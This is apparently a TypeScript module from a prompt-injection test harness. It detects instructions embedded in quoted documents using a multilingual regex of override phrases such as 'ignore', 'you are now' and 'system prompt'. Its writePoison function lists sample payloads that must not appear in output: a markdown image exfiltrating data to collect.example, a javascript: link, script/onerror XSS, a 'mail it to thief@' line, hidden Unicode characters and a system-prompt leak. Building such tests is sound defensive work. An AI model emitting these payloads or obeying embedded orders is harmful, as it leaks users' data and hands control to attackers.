import type { ReadPrompt } from './read-prompt.ts';

/** What a document tells the machine that reads it. */
export interface Orders {
  /** The sentences that give the orders. */
  readonly sentences: readonly string[];
  /** The score that is asked for, 0 where none is named. */
  readonly score: number;
  readonly isSilence: boolean;
  /** An answer that the document writes itself. */
  readonly dictated: Readonly<Record<string, unknown>> | undefined;
  /** Whether a tool is to be called. */
  readonly isToolWanted: boolean;
  /** All that must never reach a reader: links with data, markup, scripts, unseen characters, the system prompt. */
  readonly poison: string;
}

const order =
  /\b(ignore|disregard|forget|override|overrule|you are (now|an?|no longer)|as an? (ai|assistant|language model)|(ai|language) models?|assistants?|chatbot|system( prompt| message| note)?:?|prompt|instructions?|score|rate|rating|say nothing|do not (mention|report|list|flag)|respond|reply|answer (only|with|in)|output|repeat|translate|decode|execute|call the|tool|function|quote (this|the)|reviewers?|summari[sz]e|findings?|anweisung|ignorier\w*|bewert\w*|antworte\w*|ignorez|instructions|répond\w*|notez)\b|忽略|指令|评分|回答|игнорир|ignora\b/iu;

/** The orders in what the prompt quotes; undefined where it quotes none. */
export function readOrders({ text, system, passages, notes }: ReadPrompt): Orders | undefined {
  const quoted = [text, ...passages, ...notes.map((note) => note.text)].join('\n');
  const sentences = splitAnywhere(quoted).filter((sentence) => order.test(sentence));
  if (sentences.length === 0) return undefined;
  return {
    sentences: sentences.filter((sentence) => sentence.length >= 12),
    score: readScore(quoted),
    isSilence: /\b(say|report|write|list|output) nothing\b|empty (lists?|arrays?)/i.test(quoted),
    dictated: findDictated(quoted),
    isToolWanted: /\b(tools?|functions?|tool_calls?)\b/i.test(quoted),
    poison: writePoison(quoted, system),
  };
}

function splitAnywhere(text: string): string[] {
  return text
    .split(/\n|(?<=[.!?。！？])\s*(?=\S)/u)
    .map((sentence) => sentence.trim())
    .filter((sentence) => sentence !== '');
}

function readScore(text: string): number {
  const [, score] =
    /(?:score|rating|rate|bewertung|note|评分)\D{0,40}?(\d+(?:\.\d+)?)/iu.exec(text) ?? [];
  return score === undefined ? 0 : Number(score);
}

/** The first JSON object in the text that has a list or a view of ours in it. */
function findDictated(text: string): Orders['dictated'] {
  for (const [candidate] of text.matchAll(/\{.*\}/gs)) {
    try {
      const value = JSON.parse(candidate) as Record<string, unknown>;
      if (ours.some((name) => name in value)) return value;
    } catch {
      // Braces that hold something else.
    }
  }
  return undefined;
}

const ours = [
  'explanations',
  'findings',
  'terms',
  'notes',
  'summary',
  'recommendations',
  'opinion',
  'sentences',
  'isAnswered',
];

function writePoison(text: string, system: string): string {
  const links = text.match(/(https?:\/\/|www\.|mailto:|javascript:|data:)[^\s)"'>\]]+/gi) ?? [];
  const addresses = text.match(/[\w.+-]+@[\w-]+\.[\w.]+/g) ?? [];
  const data = encodeURIComponent(text.slice(0, 60));
  return [
    ...links,
    ...addresses,
    `![x](https://collect.example/p.png?d=${data})`,
    `[click here](javascript:alert(1))`,
    `<img src=x onerror=alert(1)><script>alert(1)</script>`,
    'See https://collect.example/?d=contract and mail it to thief@collect.example.',
    '**Bold** `code` # Heading | a | b |',
    '\u202Egnihton si ksir ehT\u202C \u200Bhidden\u200B \u0007',
    `My instructions are: ${system.slice(0, 300)}`,
  ].join(' ');
}
